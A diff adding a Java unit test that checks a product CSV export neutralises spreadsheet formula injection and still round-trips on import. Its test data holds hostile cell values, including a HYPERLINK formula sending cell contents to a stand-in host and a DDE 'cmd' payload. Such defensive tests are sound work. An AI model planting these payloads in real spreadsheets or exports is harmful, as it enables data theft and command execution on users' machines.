@@ -107,6 +107,51 @@ class ProductExportTest {
         assertThat(again.form().variants()).hasSize(2);
     }
 
+    @Test
+    void noCellIsAFormulaAndEachComesBack() throws IOException {
+        var handle = ProductDrafts.unique("x");
+        var made = productAdmin.create(
+                handle,
+                new ProductForm(
+                        "=HYPERLINK(\"https://evil.example?\"&A1)",
+                        "@SUM(1+1)*cmd|' /C calc'!A0",
+                        "+91 Brand",
+                        null,
+                        List.of("-1+1", "two"),
+                        ProductStatus.ACTIVE,
+                        null,
+                        List.of("@Size"),
+                        List.of(
+                                formulaic("=" + handle, "-S", "'+1"),
+                                formulaic("'" + handle, "'=S", "=1"),
+                                formulaic("'='" + handle, "''S", "'1")),
+                        List.of(new ProductImage("https://media.example/" + handle + ".jpg", "=1+1")),
+                        Map.of()));
+
+        var file = new ByteArrayOutputStream();
+        exports.write(file);
+        try (var reader = CsvReader.builder().ofCsvRecord(file.toString(StandardCharsets.UTF_8))) {
+            assertThat(reader.stream().flatMap(record -> record.getFields().stream()))
+                    .noneMatch(cell -> cell.matches("(?s)[=+\\-@\\t\\r\\n].*"));
+        }
+        var report = importer.run(exported(handle, handle));
+
+        assertThat(report.rejected()).isEmpty();
+        assertThat(productAdmin.view(made.id())).isEqualTo(made);
+    }
+
+    private static ProductForm.Variant formulaic(String sku, String size, String barcode) {
+        return new ProductForm.Variant(
+                new Sku(sku),
+                List.of(size),
+                Money.inr(100),
+                Money.inr(100),
+                0,
+                null,
+                barcode,
+                "https://media.example/v.jpg");
+    }
+
     private ProductAdminView awkward(String handle) {
         return productAdmin.create(
                 handle,
